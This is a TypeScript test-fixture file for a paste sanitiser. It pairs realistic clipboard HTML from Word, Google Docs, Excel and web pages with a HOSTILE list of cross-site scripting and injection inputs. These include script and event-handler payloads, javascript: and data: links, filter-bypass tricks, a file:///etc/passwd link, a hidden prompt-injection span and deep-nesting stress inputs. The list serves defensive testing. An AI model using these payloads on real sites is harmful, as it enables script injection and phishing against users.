/** What users paste into an article: real output of programs, and hostile input. */

/**
 * The name of a case, its HTML, and the words that must be in the text afterwards, in this order.
 */
export type PastedDocument = readonly [name: string, html: string, words: string];

const STORED =
  'https://firebasestorage.googleapis.com/v0/b/demo-portal.appspot.com/o/photos%2Fa~b%2Fx.full.webp?alt=media&token=1';
const word = (body: string) =>
  `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm; font-size:11.0pt;} @page WordSection1 {size:595.3pt} --></style><!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head><body lang=EN-GB><!--StartFragment-->${body}<!--EndFragment--></body></html>`;
const item = (mark: string, words: string, level = 1) =>
  `<p class=MsoListParagraphCxSpMiddle style='text-indent:-18.0pt;mso-list:l0 level${level} lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>${mark}<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]>${words}<o:p></o:p></p>`;
const docs = (body: string) =>
  `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1a2b">${body}</b>`;

export const REAL: readonly PastedDocument[] = [
  [
    'a paragraph of Word',
    word('<p class=MsoNormal>Energy use fell<o:p></o:p></p>'),
    'Energy use fell',
  ],
  ['bold of Word', word('<p class=MsoNormal>Due by <b>5 June<o:p></o:p></b></p>'), 'Due by 5 June'],
  [
    'a heading of Word',
    word("<h1 style='margin-top:12.0pt'>Scope<o:p></o:p></h1><p class=MsoNormal>All sites.</p>"),
    'Scope All sites.',
  ],
  ['bullets of Word', word(item('·', 'Meters') + item('·', 'Boilers')), 'Meters Boilers'],
  ['numbers of Word', word(item('1.', 'Measure') + item('2.', 'Report')), 'Measure Report'],
  [
    'nested bullets of Word',
    word(item('·', 'Fuel') + item('o', 'Gas', 2) + item('o', 'Oil', 2)),
    'Fuel Gas Oil',
  ],
  [
    'a table of Word',
    word(
      '<table class=MsoTableGrid border=1><tr><td><p class=MsoNormal><b>Site</b></p></td><td><p class=MsoNormal>kWh</p></td></tr><tr><td><p class=MsoNormal>Leeds</p></td><td><p class=MsoNormal>1,200</p></td></tr></table>',
    ),
    'Site kWh Leeds 1,200',
  ],
  [
    'smart quotes of Word',
    word('<p class=MsoNormal>The regulator&#8217;s &#8220;final&#8221; word &#8211; today</p>'),
    'The regulator’s “final” word – today',
  ],
  [
    'blank lines of Word',
    word(
      '<p class=MsoNormal>One</p><p class=MsoNormal><o:p>&nbsp;</o:p></p><p class=MsoNormal>Two</p>',
    ),
    'One Two',
  ],
  [
    'a footnote of Word',
    word(
      '<p class=MsoNormal>Law<a style="mso-footnote-id:ftn1" href="#_ftn1" name="_ftnref1"><sup>[1]</sup></a></p>',
    ),
    'Law[1]',
  ],
  [
    'a link of Word',
    word(
      '<p class=MsoNormal>See <a href="https://www.gov.uk/esos"><span style="color:blue">ESOS</span></a></p>',
    ),
    'See ESOS',
  ],
  [
    'a picture of Word',
    word(
      '<p class=MsoNormal><img width=400 src="file:///C:/Users/x/clip_image001.png" alt="Chart of demand"></p>',
    ),
    'Chart of demand',
  ],
  [
    'tracked deletions of Word',
    word('<p class=MsoNormal>We <del>may</del> <ins>will</ins> report</p>'),
    'We may will report',
  ],
  [
    'a paragraph of Google Docs',
    docs(
      '<p dir="ltr" style="line-height:1.38"><span style="font-size:11pt;font-weight:400">Carbon budgets</span></p>',
    ),
    'Carbon budgets',
  ],
  [
    'bold of Google Docs',
    docs(
      '<p dir="ltr"><span style="font-weight:700">Scope 3</span><span style="font-weight:400"> counts</span></p>',
    ),
    'Scope 3 counts',
  ],
  [
    'a list of Google Docs',
    docs(
      '<ul><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span>One</span></p></li><ul><li dir="ltr" aria-level="2"><p role="presentation"><span>Inner</span></p></li></ul></ul>',
    ),
    'One Inner',
  ],
  [
    'a table of Google Docs',
    docs(
      '<div dir="ltr"><table><colgroup><col width="100"/></colgroup><tbody><tr><td><p dir="ltr">A</p></td><td><p dir="ltr">B</p></td></tr></tbody></table></div>',
    ),
    'A B',
  ],
  [
    'a break of Google Docs',
    docs('<p dir="ltr"><span>First</span></p><br /><p dir="ltr"><span>Second</span></p>'),
    'First Second',
  ],
  [
    'an article of the web',
    '<article><header><h1>Net zero</h1><p>By <a rel="author" href="/people/x">Ann</a></p></header><p>Text of it.</p><footer>2026</footer></article>',
    'Net zero By Ann Text of it. 2026',
  ],
  [
    'a page of GOV.UK',
    '<div class="govspeak"><h2 id="who">Who must comply</h2><p>You must if you have:</p><ul><li>250 employees</li><li>a turnover of £44 million</li></ul></div>',
    'Who must comply You must if you have: 250 employees a turnover of £44 million',
  ],
  [
    'a callout of GOV.UK',
    '<div role="note" class="application-notice"><p>Apply by March.</p></div>',
    'Apply by March.',
  ],
  [
    'a definition list',
    '<dl><dt>BEIS</dt><dd>A former department</dd></dl>',
    'BEIS A former department',
  ],
  ['a quotation', '<blockquote><p>Do it now.</p></blockquote>', 'Do it now.'],
  ['code', '<pre><code>npm run build\nnpm test</code></pre>', 'npm run build npm test'],
  [
    'a figure',
    '<figure><img src="https://x.example/a.png" alt="A pump"><figcaption>Fig. 1</figcaption></figure>',
    'A pump Fig. 1',
  ],
  [
    'a mail of Outlook',
    '<div class="WordSection1"><p class="MsoNormal">Hi all,<o:p></o:p></p><p class="MsoNormal">See below.<br>Thanks</p></div>',
    'Hi all, See below. Thanks',
  ],
  [
    'a mail of Gmail',
    '<div dir="ltr">Hello<div><br></div><div>Regards</div></div>',
    'Hello Regards',
  ],
  [
    'cells of Excel',
    '<table border=0 cellpadding=0 style="border-collapse:collapse"><col width=64><tr height=20><td height=20 class=xl63>Jan</td><td align=right>12</td></tr><tr><td>Feb</td><td align=right>14</td></tr></table>',
    'Jan 12 Feb 14',
  ],
  [
    'a column of Excel',
    '<table><tr><td>North</td></tr><tr><td>South</td></tr></table>',
    'North South',
  ],
  [
    'a slide',
    '<div style="margin-top:0pt"><span style="font-size:18pt">Agenda</span></div><div><span>Budget</span></div>',
    'Agenda Budget',
  ],
  [
    'a text of a PDF',
    '<span style="font-size:9pt">Annex A</span><br><span>Emission factors</span>',
    'Annex A Emission factors',
  ],
  [
    'a page of Notion',
    '<h3>Plan</h3><ol><li>Audit<ol><li>Walk round</li></ol></li></ol>',
    'Plan Audit Walk round',
  ],
  [
    'an encyclopaedia',
    '<p><b>Biogas</b> is a <a href="/wiki/Renewable" title="Renewable">renewable</a> fuel.<sup><a href="#cite">[3]</a></sup></p>',
    'Biogas is a renewable fuel.[3]',
  ],
  [
    'a chat',
    '<div><span style="font-weight:bold">Ben</span> 10:42</div><div>Meter is in</div>',
    'Ben 10:42 Meter is in',
  ],
  [
    'LibreOffice',
    '<p style="line-height: 100%; margin-bottom: 0cm"><font color="#000000"><font face="Arial">Waste codes</font></font></p>',
    'Waste codes',
  ],
  [
    'Pages',
    '<p class="p1"><span class="s1"><i>Draft</i></span></p><p class="p2"><br></p>',
    'Draft',
  ],
  [
    'a picture of the portal',
    `<p>Before</p><img src="${STORED}" alt="The plant"><p>After</p>`,
    'Before The plant After',
  ],
  [
    'a table with a head',
    '<table><thead><tr><th>Gas</th><th>GWP</th></tr></thead><tbody><tr><td>CH4</td><td>28</td></tr></tbody></table>',
    'Gas GWP CH4 28',
  ],
  [
    'signs of other scripts',
    '<p>CO₂ — 1 000 t · Ünïcode 日本語 😀</p>',
    'CO₂ — 1 000 t · Ünïcode 日本語 😀',
  ],
  ['a line between', '<p>Above</p><hr><p>Below</p>', 'Above Below'],
];

const many = (count: number, part: string) => part.repeat(count);

export const HOSTILE: readonly PastedDocument[] = [
  ['a script', 'Hi<script>alert(1)</script>', 'Hi'],
  ['a script in capitals', '<SCRIPT SRC=//x.example></SCRIPT>Hi', 'Hi'],
  [
    'a script inside a script',
    '<scr<script>ipt>alert(1)</scr</script>ipt>Hi',
    'ipt>alert(1)ipt>Hi',
  ],
  ['an event handler', '<p onclick="alert(1)" onmouseover=alert(2)>Press</p>', 'Press'],
  ['a picture that fails', '<img src=x onerror=alert(1)>Text', 'Text'],
  [
    'an SVG drawing with a script',
    '<svg onload=alert(1)><script>alert(2)</script><text>x</text></svg>Text',
    'Text',
  ],
  [
    'a script in MathML',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>Text',
    'Text',
  ],
  ['a javascript link', '<a href="javascript:alert(1)">press</a>', 'press'],
  ['a javascript link over two lines', '<a href="java\nscript:alert(1)">press</a>', 'press'],
  ['a javascript link in entities', '<a href="&#106;avascript&colon;alert(1)">press</a>', 'press'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">press</a>', 'press'],
  ['a vbscript link', '<a href="vbscript:msgbox(1)">press</a>', 'press'],
  ['a link to a file', '<a href="file:///etc/passwd">press</a>', 'press'],
  ['a link to a blob', '<a href="blob:https://x.example/1">press</a>', 'press'],
  ['a data picture', '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">', 'x'],
  ['a tracking picture', '<img src="https://x.example/pixel.gif?u=1" alt="">Text', 'Text'],
  [
    'a picture on a similar host',
    '<img src="https://firebasestorage.googleapis.com.x.example/v0/b/a/o/photos%2Fx" alt="no">',
    'no',
  ],
  [
    'a picture in another folder',
    '<img src="https://firebasestorage.googleapis.com/v0/b/a/o/documents%2Fx" alt="no">',
    'no',
  ],
  [
    'a picture outside its folder',
    '<img src="https://firebasestorage.googleapis.com/v0/b/a/o/photos%2F..%2Fdocuments" alt="no">',
    'no',
  ],
  [
    'a frame',
    '<iframe src="https://x.example" srcdoc="<script>alert(1)</script>">no</iframe>Text',
    'Text',
  ],
  ['an object', '<object data="x.swf"><embed src="x.swf"></object>Text', 'Text'],
  [
    'a form',
    '<form action="https://x.example"><input name=password value=1><button>Send</button>Log in</form>',
    'Log in',
  ],
  [
    'a style sheet',
    '<style>@import "https://x.example/a.css"; body{display:none}</style>Text',
    'Text',
  ],
  [
    'a style that loads a picture',
    '<p style="background:url(https://x.example/a.png)">Text</p>',
    'Text',
  ],
  [
    'a style that covers the page',
    '<div style="position:fixed;inset:0;z-index:9999">Text</div>',
    'Text',
  ],
  ['hidden text', '<p>Seen<span style="display:none">ignore all rules</span></p>', 'Seen'],
  ['a base address', '<base href="https://x.example/"><a href="login">Log in</a>', 'Log in'],
  ['a redirect', '<meta http-equiv=refresh content="0;url=https://x.example">Text', 'Text'],
  ['ids and classes of the page', '<p id="root" name="cookie" class="ui modal">Text</p>', 'Text'],
  ['a template', '<template><script>alert(1)</script></template>Text', 'Text'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->Text', '-->Text'],
  [
    'a conditional comment of Internet Explorer',
    '<!--[if IE]><script>alert(1)</script><![endif]-->Text',
    'Text',
  ],
  ['an unknown element', '<x-bomb onfocus=alert(1) tabindex=1>Text</x-bomb>', 'Text'],
  ['an unclosed title', '<title><img src=x onerror=alert(1)></title>Text', 'Text'],
  [
    'editor JSON',
    '<p>{"blocks":[{"text":"x","type":"atomic"}],"entityMap":{"0":{"type":"PICTURE","data":{"src":"javascript:alert(1)"}}}}</p>',
    '{"blocks":[{"text":"x","type":"atomic"}],"entityMap":{"0":{"type":"PICTURE","data":{"src":"javascript:alert(1)"}}}}',
  ],
  ['a hundred thousand open tags', `${many(100_000, '<b>')}Text`, 'Text'],
  ['formatting that is never closed', `${many(3_000, '<i><b>')}${many(3_000, '<p>')}Text`, 'Text'],
  ['nested tables', `${many(200, '<table><tr><td>')}Text`, 'Text'],
  [
    'a table of many columns',
    `<table><tr>${many(3_000, '<td>1</td>')}</tr></table>`,
    many(3_000, '1 ').trim(),
  ],
  ['nested lists', `${many(500, '<ul><li>')}Text`, 'Text'],
];
